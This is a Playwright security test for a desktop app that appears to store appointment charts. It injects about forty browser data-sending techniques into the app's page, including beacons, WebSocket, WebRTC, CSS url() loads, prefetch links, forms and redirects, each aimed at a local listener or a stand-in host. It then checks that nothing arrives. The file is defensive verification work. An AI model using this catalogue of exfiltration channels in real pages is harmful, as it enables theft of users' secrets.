import { rmSync } from 'node:fs';
import { expect, test } from 'playwright/test';
import { openChart, unlock } from '../support/appointment.ts';
import { countingListener } from '../support/counting-listener.ts';
import { launchApp } from '../support/launch-app.ts';
import { preparedHome } from '../support/prepared-vault.ts';
import { internetSockets, processTree } from '../support/process-tree.ts';

/** Everything by which a script of a page could send a secret to an address: what was tried, in this order. */
async function tryEverything(to: string): Promise<readonly string[]> {
  const tried: string[] = [];
  const at = (name: string): string => `http://${to}/${name}?secret`;
  const attempt = async (name: string, act: (address: string) => unknown): Promise<void> => {
    try {
      await act(at(name));
    } catch {
      // Refused at once; what was not is counted where it would arrive.
    }
    tried.push(name);
  };
  const put = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender'])
    await attempt(rel, (href) => put('link', { rel, href, as: 'image' }));
  for (const rel of ['stylesheet', 'icon', 'manifest'])
    await attempt(rel, (href) => put('link', { rel, href }));
  for (const tag of ['img', 'script', 'iframe', 'embed', 'audio', 'video', 'track'])
    await attempt(tag, (src) => put(tag, { src }));
  await attempt('object', (data) => put('object', { data }));
  await attempt('poster', (poster) => put('video', { poster }));
  await attempt('fetch', (address) => fetch(address, { mode: 'no-cors', keepalive: true }));
  await attempt('beacon', (address) => navigator.sendBeacon(address, 'secret'));
  await attempt('request', (address) => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    request.send('secret');
  });
  await attempt('socket', (address) => new WebSocket(address.replace('http', 'ws')));
  await attempt('events', (address) => new EventSource(address));
  await attempt('transport', (address) => new WebTransport(address.replace('http', 'https')));
  await attempt('css-url', (address) => {
    put('p', {}).style.backgroundImage = `url("${address}")`;
  });
  await attempt('css-sheet', (address) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { border-image: url("${address}"); cursor: url("${address}"), auto }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  });
  await attempt('css-import', (address) => {
    put('style', {}).textContent = `@import url("${address}"); p { list-style: url("${address}") }`;
  });
  await attempt('font', (address) => new FontFace('elsewhere', `url("${address}")`).load());
  await attempt('worker', (address) => new Worker(address));
  await attempt('import', (address) => import(/* @vite-ignore */ address));
  await attempt('peer', async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  });
  await attempt('form', (action) => {
    const form = put('form', { action, method: 'post' }) as HTMLFormElement;
    form.submit();
  });
  await attempt('link', (href) => put('a', { href, ping: href }).click());
  await attempt('link-blank', (href) => put('a', { href, target: '_blank' }).click());
  await attempt('open', (address) => window.open(address));
  await attempt('meta-refresh', (address) =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${address}` }),
    ),
  );
  await attempt('location', (address) => {
    location.href = address;
  });
  await attempt('replace', (address) => location.replace(address));
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return tried;
}

test('56 whatever a script in our own page tries, nothing arrives anywhere, and the page stays', async () => {
  test.skip(
    process.platform !== 'linux',
    'reads the sockets of all processes in /proc, which only Linux has',
  );
  const listener = await countingListener();
  const { home } = await preparedHome();
  const app = await launchApp({ home, wholeChromium: true });
  try {
    const { page } = app;
    await unlock(page);
    await openChart(page);
    const address = page.url();
    const wanted =
      'preconnect dns-prefetch prefetch preload modulepreload prerender stylesheet icon manifest img script iframe embed audio video track object poster fetch ' +
      'beacon request socket events transport css-url css-sheet css-import font worker import peer form link link-blank open meta-refresh location replace';
    // A name has to be looked up first, an address of this computer does not.
    for (const to of [`127.0.0.1:${listener.port}`, `[::1]:${listener.port}`, 'listener.example.org'])
      expect(await page.evaluate(tryEverything, to)).toEqual(wanted.split(' '));
    expect(listener.counts()).toEqual({ tcp: 0, udp: 0 });
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(1);
    expect(await page.evaluate(() => document.querySelector('nav')?.textContent)).toContain('Today');
    // Asked for a peer, Chromium opens its own mDNS sockets; they are connected to nobody.
    const unconnected = /^udp6? \S+ 0+:0000$/;
    const open = internetSockets(processTree(app.pid)).filter((socket) => !unconnected.test(socket));
    expect(open).toEqual([]);
    await listener.reach();
    expect(listener.counts()).toEqual({ tcp: 1, udp: 1 });
  } finally {
    listener.close();
    await app.close();
    rmSync(home, { recursive: true, force: true });
  }
});
